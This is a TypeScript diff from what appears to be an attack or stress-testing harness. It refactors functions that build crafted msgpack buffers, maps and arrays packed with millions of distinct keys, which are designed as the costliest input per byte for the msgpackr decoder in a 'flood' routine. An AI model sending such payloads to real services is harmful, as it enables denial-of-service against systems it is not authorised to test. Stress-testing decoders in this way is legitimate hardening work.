@@ -91,28 +91,25 @@ async function flood(ctx: AttackContext, o: Flood): Promise<void> {
 
 /** A msgpack map of `count` distinct 6-character keys, each with value 1: 8 bytes an entry. */
 function hugeMap(count: number): Buffer {
-  const buf = Buffer.allocUnsafe(5 + count * 8);
-  buf[0] = 0xdf;
-  buf.writeUInt32BE(count, 1);
-  let o = 5;
-  for (let i = 0; i < count; i++) {
-    buf[o++] = 0xa6;
-    buf[o++] = 0x6b; // 'k'
-    const s = i.toString(36).padStart(5, '0');
-    for (let j = 0; j < 5; j++) buf[o++] = s.charCodeAt(j);
-    buf[o++] = 1;
-  }
-  return buf;
+  return distinctEntries(0xdf, count, false);
 }
 
 /** An array of `count` maps of one distinct key each (`{kNNNNN: 1}`): the costliest value per byte msgpackr decodes. */
 function distinctMaps(count: number): Buffer {
-  const buf = Buffer.allocUnsafe(5 + count * 9);
-  buf[0] = 0xdd;
+  return distinctEntries(0xdd, count, true);
+}
+
+/**
+ * A map32 (`head` 0xdf) or array32 (0xdd) of `count` entries `kNNNNN: 1`
+ * (keys in base 36, all distinct), each its own one-entry map when `ownMap`.
+ */
+function distinctEntries(head: number, count: number, ownMap: boolean): Buffer {
+  const buf = Buffer.allocUnsafe(5 + count * (ownMap ? 9 : 8));
+  buf[0] = head;
   buf.writeUInt32BE(count, 1);
   let o = 5;
   for (let i = 0; i < count; i++) {
-    buf[o++] = 0x81;
+    if (ownMap) buf[o++] = 0x81;
     buf[o++] = 0xa6;
     buf[o++] = 0x6b; // 'k'
     const s = i.toString(36).padStart(5, '0');
